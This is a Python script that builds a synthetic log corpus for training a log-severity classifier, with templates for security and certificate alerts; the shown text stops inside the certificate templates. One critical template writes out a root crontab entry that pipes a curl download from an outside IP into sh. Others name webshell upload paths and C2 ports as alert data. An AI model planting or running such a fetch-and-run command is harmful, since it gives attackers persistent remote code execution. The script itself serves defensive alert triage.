#!/usr/bin/env python3
"""Grow the log severity corpus with new templates, and keep a held-out part.

Written by the Alertron team. Every template below is our own phrasing, filled with random
values (pids, hosts, IPs, ports, users, paths, sizes, durations, UUIDs, timestamps, hex); no
line of any public data set was copied. Standard library only, fixed seed: running it again
writes byte-identical files.

Writes, next to this script:
  log-corpus-more.jsonl     training lines, from about 2/3 of the templates below
  log-corpus-heldout.jsonl  held-out lines, from the OTHER 1/3 of the templates; no held-out
                            template ever produces a training line, so a model trained on
                            log-corpus.jsonl + log-corpus-more.jsonl meets them as unseen
                            phrasings

Each template is labelled `critical` (C: a person must act now) or `not_critical` (R). The
split is by template family (category + the program or first words that print the line, so a
routine line and its critical near twin stay together) and per category: families are shuffled
with the seed and go to the held-out part until it holds about a third of the category's
templates. About half the lines get a `level` drawn
from a label-dependent distribution, so the level is informative but never decides the label
(routine lines with ERROR/FATAL and critical lines with INFO/WARN both occur).

Template syntax: `%(name)` or `%(name:arg)` is replaced by a random value (see GENERATORS);
`%(|a|b|c)` picks one of the alternatives; `%(name@k)` reuses, within one line, the value
first drawn for that key. Placeholders may nest inside alternatives.

Usage: python3 corpus_more.py [--check]   (--check prints per-file counts and writes nothing)
"""

import json
import os
import random
import re
import string
import sys

SEED = 20250611
TRAIN_LINES = 2000
HELDOUT_LINES = 800
CRITICAL_SHARE = 0.33  # of lines, in each file
HERE = os.path.dirname(os.path.abspath(__file__))
TRAIN_FILE = os.path.join(HERE, "log-corpus-more.jsonl")
HELDOUT_FILE = os.path.join(HERE, "log-corpus-heldout.jsonl")
BASE_FILE = os.path.join(HERE, "log-corpus.jsonl")

# --------------------------------------------------------------------------------------------
# Value generators
# --------------------------------------------------------------------------------------------

MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
DAYS = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]
USERS = ["amartin", "bkim", "cdubois", "dpatel", "eolsen", "fnakamura", "gsilva", "hweber",
         "ijohansson", "jmorales", "kowusu", "lrossi", "mfischer", "nhaddad", "oivanova",
         "pwright", "qzhang", "rkaur", "sbecker", "tnguyen", "uadeyemi", "vpetrov", "wli",
         "xmoreau", "yokafor", "zhansen", "deploy", "ci-runner", "backup", "ansible"]
PRIV_USERS = ["admin", "root", "oracle", "ubuntu", "postgres", "administrator", "test", "git"]
SVC_ACCOUNTS = ["www-data", "nobody", "nginx", "tomcat", "apache", "jenkins", "redis", "node"]
SERVICES = ["orders-api", "billing", "ledger-writer", "cart-svc", "auth-gw", "search-indexer",
            "media-transcoder", "invoice-pdf", "geo-lookup", "fraud-scorer", "profile-svc",
            "notify-hub", "catalog-sync", "rate-limiter", "ingest-edge", "report-cron",
            "shipping-api", "pricing-cache", "telemetry-agg", "feature-store"]
NAMESPACES = ["prod", "payments", "checkout", "platform", "data", "observability", "edge",
              "identity", "batch", "default"]
HOST_PREFIXES = ["web", "app", "db", "pg", "mysql", "redis", "kafka", "es", "ceph", "nfs",
                 "lb", "edge", "bastion", "vault", "k8s-node", "worker", "gpu", "stor", "mq",
                 "build", "mon", "dns", "ntp", "proxy"]
DOMAINS = ["example.com", "example.net", "example.org", "example.io", "shop.example.com",
           "api.example.net", "corp.example.org", "status.example.io", "pay.example.com",
           "cdn.example.net", "login.example.org", "mail.example.io"]
SUBDOMAINS = ["www", "api", "auth", "checkout", "grafana", "vpn", "mail", "static", "admin",
              "sso", "m", "partners"]
PROCS = ["java", "python3", "node", "postgres", "mysqld", "ruby", "dotnet", "php-fpm", "beam.smp",
         "clickhouse", "envoy", "gunicorn", "uwsgi", "celery", "ffmpeg", "chrome"]
WEBPROCS = ["httpd", "nginx", "php-fpm", "java", "tomcat", "node", "uwsgi"]
DISKS = ["sd" + c for c in "abcdefghijklmnopqrst"] + ["nvme%dn1" % i for i in range(8)]
IFACES = ["eth0", "eth1", "eno1", "eno2", "ens3f0", "ens3f1", "enp59s0f0", "enp94s0f1",
          "ens1f0np0", "bond0.120", "p2p1", "ib0"]
DBS = ["orders", "billing", "users", "catalog", "ledger", "analytics", "sessions", "inventory",
       "payments", "audit"]
TABLES = ["orders", "order_lines", "invoices", "accounts", "payments", "events", "sessions",
          "products", "refunds", "shipments", "api_tokens", "ledger_entries"]
POOLS = ["tank", "data", "vault", "backup", "fast", "archive", "rpool"]
VGS = ["vg0", "vgdata", "vg_sys", "docker-vg", "vg_pg"]
LUSTRE = ["scratch", "home", "proj", "lustre1", "work"]
REGIONS = ["us-east-1", "us-west-2", "eu-west-1", "eu-central-1", "ap-southeast-2",
           "ap-northeast-1", "sa-east-1"]
COUNTRIES = ["CN", "RU", "BR", "VN", "IN", "NG", "KP", "IR", "UA", "US", "NL"]
METHODS = ["GET", "POST", "PUT", "DELETE", "PATCH"]
API_PATHS = ["/api/v1/orders", "/api/v2/me", "/api/v1/cart/items", "/v3/payments",
             "/graphql", "/api/v1/search", "/api/v2/accounts/settings", "/webhooks/stripe",
             "/api/v1/reports/export", "/oauth/authorize"]
WEBSHELL_SIGS = ["Php.Webshell.Generic", "Php.Trojan.C99Shell", "Php.Backdoor.WSO",
                 "Multios.Backdoor.Weevely", "Jsp.Webshell.Behinder", "Asp.Webshell.China"]
MAL_SIGS = ["Unix.Malware.Agent", "Unix.Trojan.Tsunami", "Unix.Coinminer.Xmrig",
            "Unix.Exploit.DirtyPipe", "Unix.Trojan.Mirai", "Unix.Backdoor.Ebury"]
BIN_PATHS = ["/usr/bin/ssh", "/usr/sbin/sshd", "/bin/login", "/usr/bin/ps", "/usr/bin/top",
             "/usr/bin/netstat", "/usr/bin/passwd", "/bin/su", "/usr/lib/libkeyutils.so.1"]
SHELL_PATHS = ["/bin/sh", "/bin/bash", "/usr/bin/nc", "/usr/bin/python3", "/usr/bin/perl",
               "/bin/dash"]
DIR_PARTS = ["var", "lib", "srv", "data", "opt", "app", "cache", "spool", "log", "tmp",
             "home", "export", "mnt", "backups", "releases", "shared", "uploads", "state"]
FILE_PARTS = ["index", "segment", "chunk", "journal", "state", "wal", "events", "blob",
              "snapshot", "manifest", "report", "dump", "queue", "buffer"]
FILE_EXTS = [".db", ".log", ".bin", ".dat", ".json", ".idx", ".tar.gz", ".parquet", ".wal",
             ""]
REGISTRIES = ["registry.example.com", "ghcr.io/example", "registry.corp.example.org",
              "123456789012.dkr.ecr.us-east-1.amazonaws.com"]
DIMMS = ["A1", "A2", "B1", "B3", "C1", "D2", "E1", "F2", "G1", "H2", "P1-DIMMA1", "P1-DIMMC2",
         "P2-DIMMF1", "P2-DIMMH2", "CPU1_DIMM_B4", "CPU2_DIMM_E1"]
HPC_PREFIXES = ["cn", "gpu", "hm", "fat"]
KVERS = ["6.1.0-18-amd64", "5.15.0-105-generic", "6.8.0-31-generic", "5.14.0-427.el9.x86_64",
         "6.6.30-1-lts"]
TLDS_EMAIL = ["example.com", "example.org", "example.net"]


def _hex(rng, n, upper=False):
    s = "".join(rng.choice("0123456789abcdef") for _ in range(n))
    return s.upper() if upper else s


def _lc(rng, n):
    return "".join(rng.choice("bcdfghjklmnpqrstvwxz2456789") for _ in range(n))


def _b64(rng, n):
    return "".join(rng.choice(string.ascii_letters + string.digits + "+/") for _ in range(n))


def _ip(rng):
    kind = rng.random()
    if kind < 0.6:
        return "10.%d.%d.%d" % (rng.randint(0, 255), rng.randint(0, 255), rng.randint(1, 254))
    if kind < 0.8:
        return "172.%d.%d.%d" % (rng.randint(16, 31), rng.randint(0, 255), rng.randint(1, 254))
    return "192.168.%d.%d" % (rng.randint(0, 255), rng.randint(1, 254))


def _pubip(rng):
    # Documentation ranges (RFC 5737) plus a few benign-looking blocks of our own choosing.
    base = rng.choice(["203.0.113", "198.51.100", "192.0.2", "45.%d.%d" % (rng.randint(0, 255),
                       rng.randint(0, 255)), "185.%d.%d" % (rng.randint(0, 255), rng.randint(0, 255))])
    return "%s.%d" % (base, rng.randint(1, 254))


def _host(rng):
    return "%s-%02d" % (rng.choice(HOST_PREFIXES), rng.randint(1, 48))


def _node(rng):
    k = rng.randrange(4)
    if k == 0:
        return "ip-10-%d-%d-%d.%s.compute.internal" % (rng.randint(0, 255), rng.randint(0, 255),
                                                      rng.randint(1, 254), rng.choice(REGIONS))
    if k == 1:
        return "k8s-worker-%02d" % rng.randint(1, 80)
    if k == 2:
        return "gke-prod-%s-pool-%s-%s" % (rng.choice(["main", "highmem", "gpu"]), _hex(rng, 8),
                                           _lc(rng, 4))
    return "aks-nodepool%d-%d-vmss%06x" % (rng.randint(1, 3), rng.randint(10000000, 99999999),
                                           rng.randint(0, 99))


def _hpcnode(rng):
    if rng.random() < 0.3:
        return "r%02dc%02dn%d" % (rng.randint(1, 40), rng.randint(1, 16), rng.randint(1, 4))
    return "%s%04d" % (rng.choice(HPC_PREFIXES), rng.randint(1, 2400))


def _path(rng):
    depth = rng.randint(2, 5)
    parts = [rng.choice(DIR_PARTS) for _ in range(depth)]
    if rng.random() < 0.4:
        parts.insert(rng.randint(1, len(parts)), rng.choice(SERVICES))
    name = rng.choice(FILE_PARTS) + ("-%d" % rng.randint(0, 9999) if rng.random() < 0.6 else "")
    return "/" + "/".join(parts) + "/" + name + rng.choice(FILE_EXTS)


def _webpath(rng):
    return "/var/www/%s/%s/%d/%02d/%s.%s" % (
        rng.choice(["html", "shop", "wordpress/wp-content", "app/public"]),
        rng.choice(["uploads", "images", "tmp", "cache", "media"]),
        rng.randint(2022, 2025), rng.randint(1, 12), _lc(rng, rng.randint(3, 10)),
        rng.choice(["php", "phtml", "jsp", "php5", "aspx"]))


def _pod(rng):
    return "%s-%s-%s" % (rng.choice(SERVICES), _lc(rng, 10), _lc(rng, 5))


def _img(rng):
    return "%s/%s:%s" % (rng.choice(REGISTRIES), rng.choice(SERVICES), _semver(rng)
                          if rng.random() < 0.8 else "sha-" + _hex(rng, 7))


def _semver(rng):
    return "%d.%d.%d" % (rng.randint(0, 9), rng.randint(0, 40), rng.randint(0, 30))


def _domain(rng):
    return "%s.%s" % (rng.choice(SUBDOMAINS), rng.choice(DOMAINS))


def _dur(rng):
    k = rng.randrange(3)
    if k == 0:
        return "%dms" % rng.randint(1, 9999)
    if k == 1:
        return "%.2fs" % rng.uniform(0.1, 600)
    return "%dm%02ds" % (rng.randint(1, 59), rng.randint(0, 59))


def _size(rng):
    return rng.choice(["%.1fGiB", "%.1fMiB", "%.2fTiB", "%.0fK"]) % rng.uniform(1, 900)


def _time_parts(rng):
    return (rng.randint(2024, 2025), rng.randint(1, 12), rng.randint(1, 28), rng.randint(0, 23),
            rng.randint(0, 59), rng.randint(0, 59), rng.randint(0, 999999))


def _ts(rng):
    y, mo, d, h, mi, s, us = _time_parts(rng)
    return "%04d-%02d-%02dT%02d:%02d:%02d.%03dZ" % (y, mo, d, h, mi, s, us // 1000)


def _tsd(rng):
    y, mo, d, h, mi, s, us = _time_parts(rng)
    return "%04d-%02d-%02d %02d:%02d:%02d" % (y, mo, d, h, mi, s)


def _pgts(rng):
    y, mo, d, h, mi, s, us = _time_parts(rng)
    return "%04d-%02d-%02d %02d:%02d:%02d.%03d UTC" % (y, mo, d, h, mi, s, us // 1000)


def _mysqlts(rng):
    y, mo, d, h, mi, s, us = _time_parts(rng)
    return "%04d-%02d-%02dT%02d:%02d:%02d.%06dZ" % (y, mo, d, h, mi, s, us)


def _cassts(rng):
    y, mo, d, h, mi, s, us = _time_parts(rng)
    return "%04d-%02d-%02d %02d:%02d:%02d,%03d" % (y, mo, d, h, mi, s, us // 1000)


def _redists(rng):
    y, mo, d, h, mi, s, us = _time_parts(rng)
    return "%02d %s %04d %02d:%02d:%02d.%03d" % (d, MONTHS[mo - 1], y, h, mi, s, us // 1000)


def _tsn(rng):
    y, mo, d, h, mi, s, us = _time_parts(rng)
    return "%04d/%02d/%02d %02d:%02d:%02d" % (y, mo, d, h, mi, s)


def _ctime(rng):
    y, mo, d, h, mi, s, us = _time_parts(rng)
    return "%s %s %2d %02d:%02d:%02d %04d" % (rng.choice(DAYS), MONTHS[mo - 1], d, h, mi, s, y)


def _date(rng):
    y, mo, d, h, mi, s, us = _time_parts(rng)
    return "%04d-%02d-%02d" % (y, mo, d)


def _usdate(rng):
    y, mo, d, h, mi, s, us = _time_parts(rng)
    return "%02d/%02d/%04d" % (mo, d, y)


def _time(rng):
    return "%02d:%02d:%02d" % (rng.randint(0, 23), rng.randint(0, 59), rng.randint(0, 59))


def _epoch(rng):
    return "%d.%03d" % (rng.randint(1704067200, 1767225599), rng.randint(0, 999))


def _kt(rng):
    return "[%12.6f]" % rng.uniform(1, 9000000)


def _sys(rng):
    """An optional syslog-style prefix: classic, RFC 3339 (rsyslog) or none."""
    k = rng.random()
    y, mo, d, h, mi, s, us = _time_parts(rng)
    if k < 0.4:
        return "%s %2d %02d:%02d:%02d %s " % (MONTHS[mo - 1], d, h, mi, s, _host(rng))
    if k < 0.6:
        return "%04d-%02d-%02dT%02d:%02d:%02d.%06d+00:00 %s " % (y, mo, d, h, mi, s, us, _host(rng))
    return ""


def _cisco(rng):
    y, mo, d, h, mi, s, us = _time_parts(rng)
    return "%06d: %s %2d %02d:%02d:%02d.%03d: " % (rng.randint(1, 999999), MONTHS[mo - 1], d, h, mi,
                                                  s, us // 1000)


def _klog(rng, letter):
    y, mo, d, h, mi, s, us = _time_parts(rng)
    return "%s%02d%02d %02d:%02d:%02d.%06d %7d" % (letter, mo, d, h, mi, s, us, rng.randint(100, 99999))


def _mac(rng):
    return ":".join("%02x" % rng.randint(0, 255) for _ in range(6))


def _range(arg, default=(1, 99999)):
    if not arg:
        return default
    if "-" in arg:
        a, b = arg.split("-", 1)
        return int(a), int(b)
    return int(arg), int(arg)


def _float(rng, arg):
    parts = (arg or "0-100").split(":")
    lo, hi = (float(x) for x in parts[0].split("-", 1))
    digits = int(parts[1]) if len(parts) > 1 else 1
    return "%.*f" % (digits, rng.uniform(lo, hi))


GENERATORS = {
    "n": lambda rng, a: str(rng.randint(*_range(a))),
    "f": _float,
    "pid": lambda rng, a: str(rng.randint(120, 99999)),
    "port": lambda rng, a: str(rng.randint(1024, 65535)),
    "ip": lambda rng, a: _ip(rng),
    "pubip": lambda rng, a: _pubip(rng),
    "mac": lambda rng, a: _mac(rng),
    "host": lambda rng, a: _host(rng),
    "HOSTU": lambda rng, a: "WS-%s%03d" % (rng.choice(["FIN", "HR", "DEV", "OPS"]), rng.randint(1, 999)),
    "node": lambda rng, a: _node(rng),
    "hpcnode": lambda rng, a: _hpcnode(rng),
    "user": lambda rng, a: rng.choice(USERS),
    "privuser": lambda rng, a: rng.choice(PRIV_USERS),
    "svcacct": lambda rng, a: rng.choice(SVC_ACCOUNTS),
    "email": lambda rng, a: "%s@%s" % (rng.choice(USERS).replace("-", "."), rng.choice(TLDS_EMAIL)),
    "svc": lambda rng, a: rng.choice(SERVICES),
    "ns": lambda rng, a: rng.choice(NAMESPACES),
    "pod": lambda rng, a: _pod(rng),
    "img": lambda rng, a: _img(rng),
    "semver": lambda rng, a: _semver(rng),
    "domain": lambda rng, a: _domain(rng),
    "proc": lambda rng, a: rng.choice(PROCS),
    "webproc": lambda rng, a: rng.choice(WEBPROCS),
    "disk": lambda rng, a: rng.choice(DISKS),
    "sdisk": lambda rng, a: rng.choice([d for d in DISKS if d.startswith("sd")]),
    "part": lambda rng, a: (lambda d: d + ("p%d" % rng.randint(1, 4) if d.startswith("nvme")
                                           else str(rng.randint(1, 4))))(rng.choice(DISKS)),
    "iface": lambda rng, a: rng.choice(IFACES),
    "db": lambda rng, a: rng.choice(DBS),
    "table": lambda rng, a: rng.choice(TABLES),
    "pool": lambda rng, a: rng.choice(POOLS),
    "vg": lambda rng, a: rng.choice(VGS),
    "lfs": lambda rng, a: rng.choice(LUSTRE),
    "region": lambda rng, a: rng.choice(REGIONS),
    "country": lambda rng, a: rng.choice(COUNTRIES),
    "method": lambda rng, a: rng.choice(METHODS),
    "apipath": lambda rng, a: rng.choice(API_PATHS),
    "path": lambda rng, a: _path(rng),
    "webpath": lambda rng, a: _webpath(rng),
    "binpath": lambda rng, a: rng.choice(BIN_PATHS),
    "shellpath": lambda rng, a: rng.choice(SHELL_PATHS),
    "webshellsig": lambda rng, a: rng.choice(WEBSHELL_SIGS),
    "malsig": lambda rng, a: rng.choice(MAL_SIGS),
    "dimm": lambda rng, a: rng.choice(DIMMS),
    "kver": lambda rng, a: rng.choice(KVERS),
    "size": lambda rng, a: _size(rng),
    "bytes": lambda rng, a: str(rng.randint(1000, 90000000000)),
    "dur": lambda rng, a: _dur(rng),
    "uuid": lambda rng, a: "%s-%s-4%s-%s%s-%s" % (_hex(rng, 8), _hex(rng, 4), _hex(rng, 3),
                                                 rng.choice("89ab"), _hex(rng, 3), _hex(rng, 12)),
    "uuid8": lambda rng, a: _hex(rng, 8),
    "hex": lambda rng, a: _hex(rng, int(a or 8)),
    "HEX": lambda rng, a: _hex(rng, int(a or 8), upper=True),
    "lc": lambda rng, a: _lc(rng, int(a or 6)),
    "b64": lambda rng, a: _b64(rng, int(a or 43)),
    "colonhex": lambda rng, a: ":".join(_hex(rng, 2) for _ in range(16)),
    "lsn": lambda rng, a: "%X/%X" % (rng.randint(0, 0x3FF), rng.randint(0, 0xFFFFFFF)),
    "pcibus": lambda rng, a: "%02x:%02x.%d" % (rng.randint(0, 255), rng.randint(0, 31), rng.randint(0, 7)),
    "scsi": lambda rng, a: "%d:%d:%d:%d" % (rng.randint(0, 15), 0, rng.randint(0, 31), 0),
    "tick": lambda rng, a: "%s-%d" % (rng.choice(["OPS", "SEC", "INC", "HD"]), rng.randint(1000, 99999)),
    "ts": lambda rng, a: _ts(rng),
    "tsd": lambda rng, a: _tsd(rng),
    "pgts": lambda rng, a: _pgts(rng),
    "mysqlts": lambda rng, a: _mysqlts(rng),
    "cassts": lambda rng, a: _cassts(rng),
    "redists": lambda rng, a: _redists(rng),
    "tsn": lambda rng, a: _tsn(rng),
    "ctime": lambda rng, a: _ctime(rng),
    "date": lambda rng, a: _date(rng),
    "usdate": lambda rng, a: _usdate(rng),
    "time": lambda rng, a: _time(rng),
    "epoch": lambda rng, a: _epoch(rng),
    "kt": lambda rng, a: _kt(rng),
    "sys": lambda rng, a: _sys(rng),
    "cisco": lambda rng, a: _cisco(rng),
    "klogE": lambda rng, a: _klog(rng, "E"),
    "klogI": lambda rng, a: _klog(rng, "I"),
    "klogW": lambda rng, a: _klog(rng, "W"),
}

PLACEHOLDER = re.compile(r"%\(([^()]*)\)")


def fill(template, rng):
    cache = {}

    def one(match):
        body = match.group(1)
        if body.startswith("|"):
            return rng.choice(body[1:].split("|"))
        key = None
        if "@" in body:
            body, key = body.split("@", 1)
            key = body + "@" + key
            if key in cache:
                return cache[key]
        name, _, arg = body.partition(":")
        value = GENERATORS[name](rng, arg)
        if key:
            cache[key] = value
        return value

    # Innermost placeholders first, so alternatives may hold placeholders.
    for _ in range(6):
        template, count = PLACEHOLDER.subn(one, template)
        if not count:
            break
    return template


LEVELS = ["INFO", "WARN", "ERROR", "FATAL", "CRIT", "DEBUG", "NOTICE"]
LEVEL_WEIGHTS = {
    True: [9, 15, 32, 14, 18, 2, 10],   # critical: mostly ERROR/CRIT, but INFO/WARN/NOTICE occur
    False: [30, 16, 12, 5, 3, 18, 16],  # routine: mostly INFO/DEBUG, but ERROR/FATAL occur
}


def pick_level(rng, critical):
    if rng.random() >= 0.5:
        return None
    return rng.choices(LEVELS, weights=LEVEL_WEIGHTS[critical])[0]

# --------------------------------------------------------------------------------------------
# Templates: one per line, "C " = critical, "R " = not_critical (routine). Lines starting
# with "#" are comments.
# --------------------------------------------------------------------------------------------

SECURITY = r"""
C %(sys)sshguard[%(pid)]: Brute force attack detected: %(n:300-9000) failed logins for user %(privuser) from %(pubip) within %(n:2-30) minutes
C %(sys)sudo[%(pid)]:     %(svcacct) : user NOT in sudoers ; TTY=pts/%(n:0-9) ; PWD=/home/%(user) ; USER=root ; COMMAND=/bin/bash
C clamd[%(pid)]: %(webpath): %(webshellsig)-%(n:1000-9999999)-0 FOUND
C clamscan: %(path): %(malsig)-%(n:100000-9999999)-0 FOUND
C %(sys)auditd[%(pid)]: Audit daemon has no space left on logging partition; audit records are being discarded
C kernel: %(kt) audit: audit_backlog=%(n:8193-70000) > audit_backlog_limit=8192, audit_lost=%(n:1-90000) audit_rate_limit=0
C %(sys)auditd[%(pid)]: Audit daemon is suspending logging due to previously mentioned write error
C audispd: queue to plugins is full, event lost; audit trail incomplete since %(ts)
C rkhunter[%(pid)]: Warning: Hidden file found: %(path): ELF 64-bit LSB executable, stripped, not owned by any package
C chkrootkit[%(pid)] on %(host): Searching for suspicious files and dirs ... INFECTED: possible %(|Suckit|Ebury|Reptile|Diamorphine) rootkit installed
C ossec-rootcheck: Trojaned version of file '%(binpath)' detected on %(host) (signature Generic), binary differs from package
C type=AVC msg=audit(%(epoch):%(n:100-99999)): avc:  denied  { execute } for  pid=%(pid) comm="%(webproc)" name="%(|sh|bash|nc|python3|perl)" dev="%(part)" ino=%(n:1000-9999999) scontext=system_u:system_r:httpd_t:s0 tcontext=system_u:object_r:tmp_t:s0 tclass=file permissive=0
C kernel: %(kt) audit: type=1400 audit(%(epoch):%(n)): apparmor="DENIED" operation="exec" profile="%(|nginx|php-fpm|mysqld|tomcat9)" name="%(shellpath)" pid=%(pid) comm="%(webproc)" requested_mask="x" denied_mask="x" fsuid=%(n:33-999) ouid=0 (web server tried to spawn a shell)
C setroubleshoot[%(pid)]: SELinux is preventing %(webproc) from write access on the file shadow. For complete SELinux messages run: sealert -l %(uuid)
C pam_faillock(sshd:auth): privileged account %(|root|administrator|admin|svc-deploy|svc-payments) locked after %(n:50-4000) failures from %(n:20-900) distinct addresses (password spraying)
C winlogbeat: EventID=4740 A user account was locked out. Account Name: %(|Administrator|svc-sql|svc-backup|svc-adsync) Caller Computer Name: %(HOSTU) Domain: CORP (%(n:30-900) accounts locked in %(n:2-15)m)
C %(sys)sshd[%(pid)]: Accepted password for root from %(pubip) port %(port) ssh2
C login[%(pid)]: ROOT LOGIN ON %(|tty1|ttyS0|pts/3) FROM %(pubip); unexpected root login outside approved maintenance window
C secret-scanner: private key for *.%(domain) found in public repository github.com/%(user)/%(|dotfiles|infra-scripts|deploy-tools); revoke and rotate immediately
C vault[%(pid)]: [WARN]  core: root token generated via generate-root from %(ip) outside break-glass procedure (accessor %(hex:24))
C cloudtrail: access key AKIA%(HEX:16) of %(svcacct)-ci used from %(pubip) (%(country)) for the first time; %(n:40-900) ListBuckets/GetObject calls in %(n:2-9)m
C useradd[%(pid)]: new user: name=%(|sysupd|backup2|.hidden|postgres1), UID=0, GID=0, home=/root, shell=/bin/bash, from=none
C aide[%(pid)]: AIDE found differences between database and filesystem!! changed: %(binpath) (sha512 mismatch, package manager reports no update)
C falco: %(time).%(n:100000000-999999999): Critical A shell was spawned in a container with an attached terminal (user=root container_id=%(hex:12) container_name=%(pod) shell=bash parent=%(webproc) cmdline=bash -i)
C falco: Warning outbound connection to known C2 address (command=%(|kworkerd|.x|dbused|xmrig) connection=%(ip):%(port)->%(pubip):%(|4444|1337|3333|6667) container=%(pod))
C osquery: new crontab entry for root: '*/5 * * * * curl -fsSL http://%(pubip)/%(|ldr.sh|a.sh|s.sh) | sh'
C hids: process %(|xmrig|kdevtmpfsi|kinsing|sysrv) (pid %(pid)) using all cores on %(host); executable deleted from disk after start (cryptominer)
C guardduty: {"severity":%(f:7.0-8.9),"type":"%(|CryptoCurrency:EC2/BitcoinTool.B!DNS|Backdoor:EC2/C&CActivity.B|UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS|Trojan:EC2/DropPoint)","resource":"%(host)","region":"%(region)","count":%(n:1-400)}
C iam: MFA device deactivated for admin user %(user) by %(|an unknown session|root|%(user)) from %(pubip); %(n:3-40) policies attached in the following minute
C ids: webshell response seen: POST %(|/uploads/cmd.php|/images/x.jsp|/wp-content/plugins/y.php) from %(pubip) returned uid=33(www-data) gid=33(www-data) in body
C suricata[%(pid)]: [1:%(n:2000000-2999999):%(n:1-9)] ET EXPLOIT %(|Log4j RCE callback|Struts OGNL injection|Confluence OGNL injection) succeeded - reverse connection from %(ip) to %(pubip):%(port) established [Priority: 1]
C tripwire: integrity violation: /etc/sudoers modified (%(n:1-9) lines added) by pid %(pid) (%(|bash|python3|perl)) with no change ticket
C ssh-audit: root session opened with unknown key SHA256:%(b64) from %(pubip) (key not in inventory)
C kernel: %(kt) %(|diamorph|reptile_mod|hidepid_lkm): module verification failed: signature and/or required key missing - tainting kernel
C pki: CA private key %(|ca-root.key|intermediate-2.key) copied off %(host) by %(|scp|curl|python3) (uid %(n:1000-60000)); treat the CA as compromised
C bastion %(host): all firewall rules flushed and INPUT policy set to ACCEPT by %(|an unknown process|uid %(n:1000-60000))
R %(sys)sshd[%(pid)]: Accepted keyboard-interactive/pam for %(user) from %(ip) port %(port) ssh2
R %(sys)sshd[%(pid)]: Accepted certificate ID "%(user)@corp" (serial %(n:100-99999)) signed by ED25519 CA SHA256:%(b64) via /etc/ssh/user_ca.pub
R %(sys)systemd-logind[%(pid)]: Session %(n:1-99999) logged out. Waiting for processes to exit.
R %(sys)systemd-logind[%(pid)]: Removed session %(n:1-99999).
R fail2ban.actions        [%(pid)]: NOTICE  [%(|sshd|nginx-http-auth|postfix-sasl|recidive)] Unban %(pubip)
R fail2ban.actions        [%(pid)]: NOTICE  [%(|sshd|nginx-botsearch|dovecot)] Ban %(pubip)
R fail2ban.filter         [%(pid)]: INFO    [sshd] Found %(pubip) - %(tsd)
R %(sys)sudo[%(pid)]:   %(user@u) : 1 incorrect password attempt ; TTY=pts/%(n:0-9) ; PWD=/home/%(user@u) ; USER=root ; COMMAND=/usr/bin/%(|apt|journalctl|systemctl|less)
R %(sys)sudo[%(pid)]: pam_unix(sudo:session): session closed for user root
R pam_sss(sshd:auth): authentication success; logname= uid=0 euid=0 tty=ssh ruser= rhost=%(ip) user=%(user)
R Last login: %(ctime) from %(ip); 0 failed login attempts since the last successful login
R level=info msg="unauthenticated request rejected" status=401 method=%(method) path=%(apipath) reason="%(|missing bearer token|token expired|invalid signature)" client=%(ip)
R clamd[%(pid)]: SelfCheck: Database status OK.
R freshclam[%(pid)]: daily.cld database is up-to-date (version: %(n:27000-27999), sigs: %(n:2000000-2100000), f-level: 90, builder: raynman)
R clamscan: %(path): OK
R clamdscan: ----------- SCAN SUMMARY ----------- Infected files: 0 Total errors: 0 Time: %(f:1-900:3) sec
R rkhunter[%(pid)]: Rootkit checks... Rootkits checked : %(n:400-520) Possible rootkits: 0
R chkrootkit[%(pid)] on %(host): Checking `%(|ls|ps|netstat|login|sshd)'... not infected
R %(sys)auditd[%(pid)]: Audit daemon rotating log files
R kernel: %(kt) audit: type=1305 audit(%(epoch):%(n)): op=set audit_backlog_limit=8192 old=64 auid=4294967295 ses=4294967295 res=1
R type=AVC msg=audit(%(epoch):%(n)): avc:  denied  { %(|read|getattr|search) } for  pid=%(pid) comm="%(|colord|sssd|abrt-dump-journ|rhsmcertd)" name="%(|localtime|machine-id|resolv.conf)" scontext=system_u:system_r:%(|colord_t|sssd_t|abrt_t):s0 tclass=file permissive=1
R kernel: %(kt) audit: type=1400 audit(%(epoch):%(n)): apparmor="ALLOWED" operation="open" profile="%(|cupsd|snap.firefox.firefox|man_filter)" name="%(path)" pid=%(pid) comm="%(|cupsd|firefox|man)" requested_mask="r" denied_mask="r" fsuid=%(n:0-1000) ouid=0 (complain mode)
R aide[%(pid)]: AIDE found NO differences between database and filesystem. Looks okay!!
R vault[%(pid)]: [INFO]  expiration: revoked lease: lease_id=database/creds/%(svc)-ro/%(b64:24)
R vault: token renewed for %(svc) (policy %(svc)-read, ttl 768h)
R %(sys)passwd[%(pid)]: pam_unix(passwd:chauthtok): password changed for %(user)
R %(sys)sshd[%(pid)]: Connection closed by %(ip) port %(port) [preauth]
R %(sys)sshd[%(pid)]: Disconnected from user %(user) %(ip) port %(port)
R helpdesk: account %(user) unlocked after identity verification (ticket %(tick))
R oidc: login succeeded for %(email) via %(|okta|azuread|google) (mfa=%(|totp|webauthn|push))
R kernel: %(kt) audit: type=1130 audit(%(epoch):%(n)): pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=%(|systemd-tmpfiles-clean|logrotate|man-db) comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success'
R image scan %(img): %(n:0-3) medium, 0 high, 0 critical vulnerabilities
R iam: access key of %(svcacct)-ci rotated by key-rotator; old key deactivated after %(n:1-7)d grace
R suricata[%(pid)]: [1:%(n:2000000-2999999):%(n:1-9)] ET SCAN %(|Nmap Scripting Engine User-Agent|Potential SSH Scan|Zmap User-Agent) [Classification: Attempted Information Leak] [Priority: 2] {TCP} %(pubip):%(port) -> %(ip):%(|22|443|80)
R waf: blocked %(|SQL injection|XSS|path traversal) attempt from %(pubip) on %(apipath) (rule %(n:900000-999999)), request dropped
R %(sys)sshd[%(pid)]: Server listening on 0.0.0.0 port 22.
R %(sys)apt[%(pid)]: gpgv: Good signature from "%(|Debian Archive Automatic Signing Key|Alertron Release Signing)" [full], key %(HEX:16)
R %(sys)su[%(pid)]: (to %(svcacct)) %(user) on pts/%(n:0-9)
R %(sys)polkitd[%(pid)]: Registered Authentication Agent for unix-process:%(pid):%(n) (system bus name :1.%(n:10-999))
"""

CERTIFICATES = r"""
C x509: certificate signed by unknown authority (possibly because of "crypto/rsa: verification error" while trying to verify candidate authority certificate "%(|corp-root-ca|mesh-intermediate|vault-pki)"); all mTLS calls to %(svc) failing since %(ts)
C curl: (60) SSL certificate problem: certificate has expired; probe https://%(domain)/healthz failing from all %(n:3-12) regions
